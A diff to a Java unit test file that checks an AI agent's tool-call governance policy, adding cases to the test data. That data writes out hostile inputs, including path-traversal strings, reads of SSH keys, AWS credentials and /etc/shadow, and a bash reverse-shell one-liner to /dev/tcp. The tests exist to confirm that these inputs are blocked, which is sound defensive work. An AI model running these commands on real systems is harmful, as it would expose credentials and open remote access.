@@ -99,6 +99,8 @@ class ToolGovernanceTest {
         assertThat(p.govern(call("read_file", Map.of("path", "../../etc/passwd")), CTX).isBlocked()).isTrue();
         assertThat(p.govern(call("read_file", Map.of("path", "/workspace/%2e%2e/x")), CTX).isBlocked()).isTrue();
         assertThat(p.govern(call("read_file", Map.of("path", "/workspacex/a")), CTX).isBlocked()).isTrue();
+        assertThat(p.govern(call("read_file", Map.of("path", "~/notes")), CTX).isBlocked()).isTrue();
+        assertThat(p.govern(call("read_file", Map.of("path", "notes/a.md")), CTX).outcome()).isEqualTo(Outcome.MODIFY);
         assertThat(p.govern(call("send_email", Map.of("to", "bob@company.com", "subject", "hi")), CTX)
                 .isAllowed()).isTrue();
         ToolDecision d = p.govern(call("send_email", Map.of("to", "eve@evil.com")), CTX);
@@ -120,6 +122,8 @@ class ToolGovernanceTest {
         assertThat(type(p, "read_file", Map.of("path", "~/.ssh/id_rsa"))).isEqualTo("forbidden_zone");
         assertThat(type(p, "read_file", Map.of("path", "/home/bob/.aws/credentials"))).isEqualTo("forbidden_zone");
         assertThat(type(p, "read_file", Map.of("path", "/etc/shadow"))).isEqualTo("forbidden_zone");
+        assertThat(type(p, "read_file", Map.of("path", "C:\\Users\\bob\\.ssh\\id_rsa"))).isEqualTo("forbidden_zone");
+        assertThat(type(p, "shell_exec", Map.of("command", "cat $HOME/.aws/credentials"))).isEqualTo("forbidden_zone");
         assertThat(type(p, "read_file", Map.of("path", "/srv/vault/key"))).isEqualTo("forbidden_zone");
         assertThat(type(p, "write_file", Map.of("path", "/tmp/x.sh", "content", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")))
                 .isEqualTo("reverse_shell");
